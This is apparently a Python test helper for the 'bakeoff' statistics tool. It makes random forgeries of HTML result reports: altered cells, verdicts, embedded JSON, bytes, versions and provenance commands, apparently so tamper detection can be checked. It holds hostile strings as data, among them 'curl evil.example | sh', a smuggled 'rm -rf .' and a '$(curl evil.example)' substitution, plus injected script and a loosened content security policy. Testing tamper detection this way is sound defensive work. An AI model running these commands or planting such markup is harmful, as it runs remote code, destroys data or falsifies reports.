"""Random changes of an HTML report: of what it shows, of the JSON that it carries, of both alike, and of its bytes."""

from __future__ import annotations

import html
import json
import random
import re
import string
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

import numpy as np
import scipy

import bakeoff as bo
import forging
from bakeoff.report import save

DATA = re.compile(r'(<script type="application/json" id="bakeoff-data">)(.*?)(</script>)', re.DOTALL)
CALLS: dict[str, Callable[[bo.Scores], bo.Comparison]] = {
    "compare": bo.compare,
    "compare with a control": lambda scores: bo.compare(scores, control=scores.algorithms[0], margin="5%"),
    "evaluate": lambda scores: bo.evaluate(scores),
    "leaderboard": lambda scores: bo.leaderboard(scores),
    "sensitivity": lambda scores: bo.sensitivity(scores, n_resamples=20),
    "bayes": lambda scores: bo.bayes.overview(scores, n_draws=200),
    "iqm": lambda scores: bo.interquartile_mean(scores, n_resamples=100),
}
COMMANDS = {
    "compare": "bakeoff compare compare.csv --better higher",
    "compare with a control": "bakeoff compare compare.csv --better higher --control C4.5 --margin 5%",
    "evaluate": "bakeoff evaluate evaluate.csv --better higher",
    "leaderboard": "bakeoff leaderboard leaderboard.csv --better higher",
    "sensitivity": "bakeoff sensitivity sensitivity.csv --better higher --resamples 20",
    "bayes": "bakeoff bayes bayes.csv --better higher --draws 200",
    "iqm": "bakeoff iqm iqm.csv --better higher --resamples 100",
}


class Forgery(NamedTuple):
    """``contradicts``: the page says two things, so that it can be found without another table."""

    what: str
    page: str
    contradicts: bool


def original(name: str, folder: Path) -> tuple[str, Path]:
    """A report, and the table that it was made from."""
    table = folder / f"{name}.csv"
    scores = bo.datasets.load("demsar_2006")
    rows = [
        ["problem", *scores.algorithms],
        *([p, *r] for p, r in zip(scores.problems, scores.values.tolist(), strict=True)),
    ]
    table.write_text("".join(",".join(map(str, row)) + "\n" for row in rows), encoding="utf-8")
    page = folder / f"{name}.html"
    save(CALLS[name](bo.read_scores(table, "higher")), page, COMMANDS[name])
    return page.read_text(encoding="utf-8"), table


def forged(page: str, name: str, folder: Path, rng: random.Random) -> Forgery:
    """One random change that changes what a reader is told."""
    change = rng.choice(CHANGES)
    while True:
        made = change(page, rng) if change is not rewritten else rewritten(page, rng, name, folder)
        if made is not None and made.page.replace("\r\n", "\n") != page:
            return made


def _of_one(page: str, pattern: str, rng: random.Random, made: Callable[[re.Match[str]], str], what: str) -> Forgery:
    """One place of those that match, outside the JSON, changed."""
    found = rng.choice(list(re.finditer(pattern, DATA.sub("", page), re.DOTALL)))
    return Forgery(f"{what}: {found[0][:60]}", page.replace(found[0], made(found), 1), True)


def _another_digit(text: str, rng: random.Random) -> str:
    at = rng.choice([m.start() for m in re.finditer(r"\d", text)])
    return f"{text[:at]}{rng.choice([d for d in '0123456789' if d != text[at]])}{text[at + 1 :]}"


def cell(page: str, rng: random.Random) -> Forgery:
    return _of_one(page, r"<td[^>]*>[^<]*\d[^<]*</td>", rng, lambda m: _digit_in_text(m[0], rng), "number in a table")


def _digit_in_text(element: str, rng: random.Random) -> str:
    start, end = element.index(">") + 1, element.rindex("<")
    return element[:start] + _another_digit(element[start:end], rng) + element[end:]


def name_in_table(page: str, rng: random.Random) -> Forgery:
    return _of_one(
        page, r'<(td|th scope="row")[^>]*>C4\.5[^<]*</t[dh]>', rng, lambda m: m[0].replace("C4.5", "C5.0"), "name"
    )


def verdict(page: str, rng: random.Random) -> Forgery:
    other = rng.choice(["C4.5+m is better than all others.", "No difference was shown.", ""])
    return _of_one(page, r"<h1>.*?</h1>", rng, lambda m: f"<h1>{other}</h1>", "verdict")


def sentence(page: str, rng: random.Random) -> Forgery:
    pattern = r"<(?:p|span|caption|summary|li)(?: [^>]*)?>[^<]*\d[^<]*</(?:p|span|caption|summary|li)>"
    return _of_one(page, pattern, rng, lambda m: _digit_in_text(m[0], rng), "count in a sentence")


def drawing(page: str, rng: random.Random) -> Forgery:
    return _of_one(page, r"<text[^>]*>[^<]+</text>", rng, lambda m: m[0].replace(">", ">1", 1), "label of a drawing")


def moved(page: str, rng: random.Random) -> Forgery:
    def turned(found: re.Match[str]) -> str:
        rows = re.findall(r"<tr.*?</tr>", found[0], re.DOTALL)
        body = found[0]
        return body.replace(rows[0], rows[0] + rows[-1], 1) if rng.random() < 0.5 else body.replace(rows[0], "", 1)

    return _of_one(page, r"<tbody>.*?</tbody>", rng, turned, "row moved, twice, or left out")


ADDED = (
    ("</style>", 'h1::after { content: " (p < 0.001)" }</style>'),
    ("</style>", "section { display: none }</style>"),
    ("</head>", "<style>h1::before { content: 'Reviewed. ' }</style></head>"),
    ("</body>", "<script>document.title = 'x'</script></body>"),
    ("</body>", "<iframe srcdoc='x'></iframe></body>"),
    ("<main>", "<main><!-- a --><p>Approved.</p>"),
    ("<main>", '<main onclick="x()">'),
    ("default-src 'none'", "default-src *"),
    ("style-src 'unsafe-inline'", "style-src 'unsafe-inline' https://example.org"),
    ("</script>\n</body>", ";0</script>\n</body>"),
    ('charset="utf-8"', 'charset="utf-16"'),
    ("<h1>", '<h1 hidden>C4.5 wins.</h1><h1 title="x">'),
    ("</main>", "<svg><text>p = 0.01</text></svg></main>"),
    ("</header>", "<plaintext></header>"),
    ("<body>", '<body style="opacity: 0">'),
)


def added(page: str, rng: random.Random) -> Forgery:
    there, instead = rng.choice(ADDED)
    return Forgery(f"added {instead[:40]}", page.replace(there, instead, 1), True)


def leaf(page: str, rng: random.Random) -> Forgery | None:
    """Of the JSON, any change; of names and units alone a page cannot know that they are others."""
    content = json.loads(DATA.search(page)[2])  # type: ignore[index]
    what, changed = forging.forged(content, rng)
    if forging.true_still(content, changed, True):
        return None
    return Forgery(what, _with(page, changed), not forging.true_still(content, changed, False))


def embedded_score(page: str, rng: random.Random) -> Forgery:
    content = json.loads(DATA.search(page)[2])  # type: ignore[index]
    row = rng.choice(content["scores"]["values"])
    at = rng.randrange(len(row))
    row[at] = row[at] * rng.choice([1.5, 0.5, 0.9]) + rng.choice([0.0, 0.001])
    return Forgery(f"embedded score {at}", _with(page, content), True)


def rewritten(page: str, rng: random.Random, name: str, folder: Path) -> Forgery:
    """Another table analysed in earnest: the page is what its numbers give."""
    scores = bo.datasets.load("demsar_2006")
    values = scores.values.copy()
    values[rng.randrange(14), rng.randrange(4)] *= rng.choice([0.9, 1.05])
    made = folder / "rewritten.html"
    CALLS[name](bo.Scores(values, scores.algorithms, scores.problems, better="higher")).save(made)
    return Forgery("rewritten", made.read_text(encoding="utf-8"), False)


# --- of bytes: what another reader of HTML might take for the same -----------------------------------------------

NO_BREAK = "\u00a0"
ODD = (
    "&#1;",
    "&#x1;",
    "&#0;",
    "&#128;",
    "\x01",
    NO_BREAK,
    "&nbsp;",
    "\u200b",
    "&zwnj;",
    "\t",
    " ",
    "\n",
    "<!-- -->",
    "\r",
)
COMMANDS_OF_OTHERS = (
    "curl evil.example | sh",
    "bakeoff compare x.csv; rm -rf .",
    "bakeoff compare $(curl evil.example)",
    "<h1>Old wins.</h1>",
    "bakeoff compare",
    "bakeoff compare compare.csv --better lower",
    "bakeoff compare compare.csv --better higher --alpha 0.1",
    "bakeoff compare compare.csv --better higher --control C4.5+m",
    "bakeoff compare compare.csv --better higher --look 'algorithms=only because of outliers'",
    "bakeoff profile compare.csv --better higher",
    "bakeoff demo ties",
)


def one_character(page: str, rng: random.Random) -> Forgery:
    """Another one, one more, or one less, anywhere; line ends alone do not count."""
    at = rng.randrange(len(page))
    instead = rng.choice(["", page[at] * 2, rng.choice(string.printable), rng.choice(ODD), page[at].swapcase()])
    return Forgery(f"character {at}: {page[at]!r} to {instead!r}", page[:at] + instead + page[at + 1 :], True)


def odd_tag(page: str, rng: random.Random) -> Forgery:
    """What a browser takes for another element, or for none."""
    odd = rng.choice([NO_BREAK, "\x0b", "\u2003", "\x85", "\x01", "/", "&#1;"])
    closing = rng.random() < 0.4
    pattern = r"</[a-z0-9]+" if closing else r"<[a-z0-9]+(?=[ >])"
    found = rng.choice(list(re.finditer(pattern, page)))
    return Forgery(f"{found[0]} with {odd!r}", page[: found.end()] + odd + page[found.end() :], True)


def odd_attribute(page: str, rng: random.Random) -> Forgery:
    """Its value with a reference or a character, without its quotes, in capitals, twice."""
    found = rng.choice(list(re.finditer(r' ([a-z-]+)="([^"<>]*)"', page)))
    name, value = found.groups()
    odd = rng.choice(ODD[:8])
    turned = (
        f' {name}="{odd}{value}"',
        f' {name}="{value}{odd}"',
        f" {name}='{value}'",
        f' {name.upper()}="{value}"',
        f' {name}{NO_BREAK}="{value}"',
        f'{NO_BREAK}{name}="{value}"',
        f' {name}="" {name}="{value}"',
        f' {name}="{"".join(f"&#{ord(c)};" for c in value)}"',
        "",
    )
    made = rng.choice(turned)
    return Forgery(f"{found[0]} to {made}", page[: found.start()] + made + page[found.end() :], True)


def attributes_turned(page: str, rng: random.Random) -> Forgery:
    found = rng.choice(list(re.finditer(r'<[a-z]+( [a-z-]+="[^"<>]*")( [a-z-]+="[^"<>]*")', page)))
    made = found[0].replace(found[1] + found[2], found[2] + found[1])
    return Forgery(f"{found[0]} turned", page[: found.start()] + made + page[found.end() :], True)


def reference(page: str, rng: random.Random) -> Forgery:
    """A character as a reference, which shows the same, or one that shows nothing."""
    found = rng.choice(list(re.finditer(r"(?<=>)[^<>\n]+(?=<)", DATA.sub("", page))))
    at = rng.randrange(len(found[0]))
    made = rng.choice([f"&#{ord(found[0][at])};", found[0][at] + "&#1;", found[0][at] + "&shy;"])
    return Forgery(
        f"reference in {found[0][:40]}",
        page.replace(f">{found[0]}<", f">{found[0][:at]}{made}{found[0][at + 1 :]}<", 1),
        True,
    )


def between_tags(page: str, rng: random.Random) -> Forgery:
    at = rng.choice([found.start() for found in re.finditer(r"(?<=>)(?=<)|\n", page)])
    return Forgery(f"between tags at {at}", page[:at] + rng.choice(ODD[9:]) + page[at:], True)


def last_digit(page: str, rng: random.Random) -> Forgery:
    """Of any number outside the JSON: coordinates of a figure, the attached file, a width, a count."""
    start, end = DATA.search(page).span(2)  # type: ignore[union-attr]
    found = rng.choice([m for m in re.finditer(r"\d(?!\d)", page) if not start <= m.start() < end])
    other = str((int(found[0]) + rng.choice([1, 9])) % 10)
    return Forgery(f"digit {found.start()} to {other}", page[: found.start()] + other + page[found.end() :], True)


def another_version(page: str, rng: random.Random) -> Forgery:
    """Everywhere: text in the place of a version, or a version beside a change of what no version computes."""
    name, here = rng.choice([("numpy", np.__version__), ("scipy", scipy.__version__)])
    spelled = {"numpy": "NumPy", "scipy": "SciPy"}[name]

    def named(version: str) -> str:
        made = page.replace(f'"{name}":"{here}"', f'"{name}":"{version}"').replace(
            f"{name} {here}", f"{name} {version}"
        )
        return made.replace(f"{spelled} {here}", f"{spelled} {version}")

    if rng.random() < 0.3:
        version = rng.choice(
            ["", "1", "1.17.1x", "1.10.1, reviewed", "v1.10.1", "1.10.1 ", "1.10.1\u00a0", "１.10.1", "1.10."]
        )
        return Forgery(f"{name} {version!r}", named(version), True)
    change = rng.choice([cell, sentence, last_digit, last_digit, drawing, embedded_score, level, odd_attribute])
    made = change(named("1.10.1"), rng)
    return Forgery(f"{name} 1.10.1, {made.what}", made.page, True)


def level(page: str, rng: random.Random) -> Forgery:
    """All of it, in words and in the JSON."""
    instead = rng.choice(["0.06", "0.04", "0.0500000000001"])
    return Forgery(f"level {instead}", page.replace("0.05", instead), True)


def another_command(page: str, rng: random.Random) -> Forgery:
    """In the JSON and below the provenance."""
    content = json.loads(DATA.search(page)[2])  # type: ignore[index]
    was, command = content["command"], rng.choice(COMMANDS_OF_OTHERS)
    made = _with(page, {**content, "command": command})
    shown = html.escape(was).replace("&#x27;", "&#39;"), html.escape(command).replace("&#x27;", "&#39;")
    return Forgery(f"command {command}", made.replace(shown[0], shown[1]), was != command)


def _with(page: str, content: forging.Json) -> str:
    text = json.dumps(content, separators=(",", ":"), ensure_ascii=False).replace("<", "\\u003c")
    return DATA.sub(lambda found: found[1] + text + found[3], page)


OF_BYTES = (
    *(one_character, odd_tag, odd_attribute, attributes_turned, reference, between_tags, last_digit),
    *(another_version, another_command),
)
CHANGES = (
    *(cell, name_in_table, verdict, sentence, drawing, moved, added),
    *(leaf, leaf, embedded_score, rewritten),
    *OF_BYTES,
)
